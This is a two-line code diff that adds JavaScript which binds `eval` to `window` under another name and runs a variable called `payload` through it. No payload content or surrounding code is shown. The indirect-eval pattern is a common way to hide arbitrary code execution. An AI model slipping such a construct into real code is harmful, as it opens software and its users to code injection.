@@ -1,0 +1,2 @@
+const go = eval.bind(window);
+go(payload);
